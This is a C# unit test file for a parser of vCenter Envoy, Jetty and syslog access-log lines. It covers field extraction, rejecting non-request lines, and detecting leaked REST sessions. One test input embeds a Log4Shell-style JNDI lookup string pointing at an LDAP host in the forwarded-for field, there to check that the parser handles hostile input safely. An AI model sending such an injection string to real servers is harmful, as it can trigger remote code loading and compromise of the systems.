using System.Text;
using VcsaAuthGuard.ApiLoad.Measuring;
using VcsaAuthGuard.ApiLoad;
using VcsaAuthGuard.Fixtures;
using VcsaAuthGuard.Logs.Entries;
using VcsaAuthGuard.Logs;

namespace VcsaAuthGuard.Tests.ApiLoad;

/// <summary>Access lines: the public ones, then shapes nobody has shown us (synthetic).</summary>
public class LoadAccessLineTests
{
    private const string Header = "2026-07-23T18:54:57.291Z info envoy[2928] [Originator@6876 sub=Default] ";

    private static readonly string[] Samples = File.ReadAllLines(Repository.Sample("envoy-access.log"));

    [Theory]
    [InlineData(0, "2023-05-11T10:22:31.070Z", "POST", "/sdk", "1.2.3.4", 1)]
    [InlineData(1, "2025-09-23T10:14:38.383Z", "POST", "/api/search?q=hello+there", "1.2.3.4", 9)]
    [InlineData(2, "2026-07-23T18:54:49.431Z", "GET", "/api/vcenter/vm/vm-51/hardware/disk/2012", "10.11.20.40", 99)]
    public void Every_public_line_is_read_whole(int line, string time, string method, string path, string client, int milliseconds)
    {
        Assert.Equal(
            $"{time} {method} {path} 200 via_upstream  {client} {milliseconds}",
            Read(Samples[line]));
    }

    [Theory]
    [InlineData(
        "POST /hgw/host-5008/api 503 no_healthy_upstream UH 31000ms",
        "- POST /hgw/host-5008/api 503 no_healthy_upstream UH  31000"
    )]
    [InlineData(
        Header + "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream - 0 180 12 11 0 [2001:db8::7]:38396 10.0.0.1:443",
        "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream  2001:db8::7 12"
    )]
    [InlineData(
        Header + "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream - 0 180 12 11 0 [::ffff:10.0.0.7]:38396 10.0.0.1:443",
        "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream  ::ffff:10.0.0.7 12"
    )]
    [InlineData(
        "[2026-07-23T18:54:49.431Z] \"POST /sdk HTTP/1.1\" 200 - 17 4711 25 24 \"Agent 007 (1.2.3.4:80; 500)\" 10.0.0.7:5000",
        "2026-07-23T18:54:49.431Z POST /sdk 200   10.0.0.7 25"
    )]
    [InlineData(
        // https://github.com/kubernetes-sigs/cluster-api-provider-vsphere/issues/1818: the vAPI endpoint's Jetty
        "2023-03-07T11:34:53.329Z | jetty-default-245         | 172.30.6.33 - - [07/Mar/2023:11:34:53 +0000] "
            + "\"POST /rest/com/vmware/cis/session?~action=get HTTP/1.1\" 401 442 \"-\" \"infrastructure\" 1",
        "2023-03-07T11:34:53.329Z POST /rest/com/vmware/cis/session?~action=get 401   172.30.6.33 "
    )]
    [InlineData(
        // The format that a public parser of a SIEM has for vCenter's Envoy, x_forwarded_for first:
        // https://github.com/natesmalley/jarvis_coding, vmware_vcenter_log
        Header + "2026-07-23T18:54:49.431Z GET /sdk HTTP/1.1 503 - - 100 200 12 11 203.0.113.9 127.0.0.1:8085 127.0.0.1:49192 10.0.0.1:443 "
            + "10.0.0.7:38396 vc01.example.org default",
        "2026-07-23T18:54:49.431Z GET /sdk 503   10.0.0.7 12"
    )]
    [InlineData(
        // Envoy's default format: https://www.envoyproxy.io/docs/envoy/latest/configuration/observability/access_log/usage
        "[2016-04-15T20:17:00.310Z] \"POST /api/v1/locations HTTP/2\" 204 - 154 0 226 100 \"10.0.35.28\" \"nsq2http\" \"cc21d9b0\" "
            + "\"locations\" \"tcp://10.0.2.1:80\"",
        "2016-04-15T20:17:00.310Z POST /api/v1/locations 204   10.0.35.28 226"
    )]
    [InlineData(
        "[2016-04-15T20:17:00.310Z] \"POST /api/session HTTP/2\" 503 UH 154 0 226 - \"${jndi:ldap://192.0.2.3/x}, 10.0.35.28\" \"-\"",
        "2016-04-15T20:17:00.310Z POST /api/session 503 UH UH 10.0.35.28 226"
    )]
    [InlineData(
        // Jetty's own format of the request log (NCSA), as in its documentation.
        "172.30.6.33 - - [07/Mar/2023:11:34:53 +0100] \"POST /api/session HTTP/1.1\" 503 442 \"-\" \"infrastructure\" 1",
        "2023-03-07T10:34:53.000Z POST /api/session 503   172.30.6.33 "
    )]
    [InlineData(
        Header + "[2026-07-23T18:54:49.431Z] \"GET /ui/ HTTP/2\" 200 - 17 4711 25 24 10.0.0.7:5000",
        "2026-07-23T18:54:49.431Z GET /ui/ 200   10.0.0.7 25"
    )]
    [InlineData(
        Header + "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream - 0 180 12 11 0 192.168.0.1, 172.16.0.9 10.0.0.7:38396 10.0.0.1:443",
        "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream  10.0.0.7 12"
    )]
    [InlineData(
        Header + "2026-07-23T18:54:49.431Z GET /folder/disk.vmdk HTTP/1.1 200 via_upstream - 0 53687091200 31000 9 0 10.0.0.7:38396",
        "2026-07-23T18:54:49.431Z GET /folder/disk.vmdk 200 via_upstream  10.0.0.7 31000"
    )]
    [InlineData(
        Header + "2026-07-23T18:54:49.431Z POST /sdk HTTP/1.1 0 downstream_remote_disconnect DC 1670 0 120 - 0 10.0.0.7:38396",
        "2026-07-23T18:54:49.431Z POST /sdk 0 downstream_remote_disconnect DC 10.0.0.7 120"
    )]
    [InlineData(
        Header + "2026-07-23T18:54:49.431Z POST /hgw/host-7/sdk HTTP/1.1 503 UF 12 91 30000 - 127.0.0.1:38396",
        "2026-07-23T18:54:49.431Z POST /hgw/host-7/sdk 503 UF UF 127.0.0.1 30000"
    )]
    [InlineData(
        Header + "POST /sdk HTTP/1.1 200 via_upstream - 0 180 12 11 0 10.0.0.7:38396",
        "2026-07-23T18:54:57.291Z POST /sdk 200 via_upstream  10.0.0.7 12"
    )]
    [InlineData(
        "<14>1 2026-07-23T18:54:58.000Z vc01 envoy-access 2928 - - "
            + Header
            + "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream - 0 180 12 11 0 10.0.0.7:38396",
        "2026-07-23T18:54:49.431Z GET /sdk 200 via_upstream  10.0.0.7 12"
    )]
    public void A_shape_not_seen_yet_is_read_by_what_its_fields_are(string line, string expected)
    {
        Assert.Equal(expected, Read(line));
    }

    [Theory]
    [InlineData("2026-07-23T18:54:57.291Z info envoy[2928] [Originator@6876 sub=Default] started")]
    [InlineData("POST /sdk HTTP/1.1 1670 via_upstream")] // No status.
    [InlineData("POST /sdk")]
    [InlineData("COMPOST /sdk 200")]
    [InlineData("POST sdk 200")]
    public void What_is_no_request_is_none(string line)
    {
        Assert.False(AccessLine.TryRead(Encoding.UTF8.GetBytes(line), out _));
    }

    [Fact]
    public void In_an_access_log_each_line_not_understood_is_counted()
    {
        LogReadReport report = new();
        List<ApiClientLoad> loads = LoadLogs.Read(
            null,
            report,
            ("envoy-access.log", string.Join('\n', [.. Samples, "a line of another kind", "POST /sdk and prose"]))
        );
        Assert.Equal(2, report.Counts.NotUnderstood);
        Assert.Equal(3, loads.Sum(load => load.Calls));

        // The same lines one by one.
        report = new();
        ApiLoadReader reader = new(LoadRules.Default, report);
        foreach (string line in (string[])[.. Samples, "a line of another kind"])
        {
            reader.Push(line, "/var/log/vmware/envoy/envoy-access.log");
        }

        Assert.Equal(3, reader.Read([], TestContext.Current.CancellationToken).Sum(load => load.Calls));
        Assert.Equal(1, report.Counts.NotUnderstood);
    }

    [Fact]
    public void The_rest_api_tells_its_sessions_by_address()
    {
        string[] requests =
        [
            .. Enumerable
                .Range(0, 30)
                .SelectMany(i => (string[])[Line(i * 2, "POST /api/session 201"), Line((i * 2) + 1, "GET /api/vcenter/vm 200")]),
        ];
        ApiClientLoad load = Assert.Single(
            LoadLogs.Read([
                .. requests,
                Line(90, "POST /api/session 401"),
                Line(91, "DELETE /api/session 204"),
                Line(92, "POST /rest/com/vmware/cis/session?~action=get 200"),
            ])
        );
        Assert.Equal(
            (null, "10.0.0.7", 30, 1, 1, 31),
            (load.User, load.Address, load.Logins, load.Logouts, load.RefusedLogins, load.Calls)
        );
        Assert.Equal(LoadPatterns.LoginPerItem | LoadPatterns.Leaking, load.Pattern);
        Assert.Equal(LoadSources.Access, load.SeenIn);

        static string Line(double seconds, string request) =>
            $"{Header}{LoadLogs.At(seconds)} {request} via_upstream - 0 180 12 11 0 10.0.0.7:38396";
    }

    private static string Read(string line)
    {
        Assert.True(AccessLine.TryRead(Encoding.UTF8.GetBytes(line), out AccessLine access), line);
        string time = access.Time?.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", System.Globalization.CultureInfo.InvariantCulture) ?? "-";
        return string.Create(
                System.Globalization.CultureInfo.InvariantCulture,
                $"{time} {Text(access.Method)} {Text(access.Path)} {access.Status} {Text(access.Details)} {Text(access.Flags)} "
                    + $"{Text(access.Client)} {access.Duration?.TotalMilliseconds}"
            )
            .Replace("  -", "", StringComparison.Ordinal);
    }

    private static string Text(ReadOnlySpan<byte> bytes) => Encoding.UTF8.GetString(bytes);
}
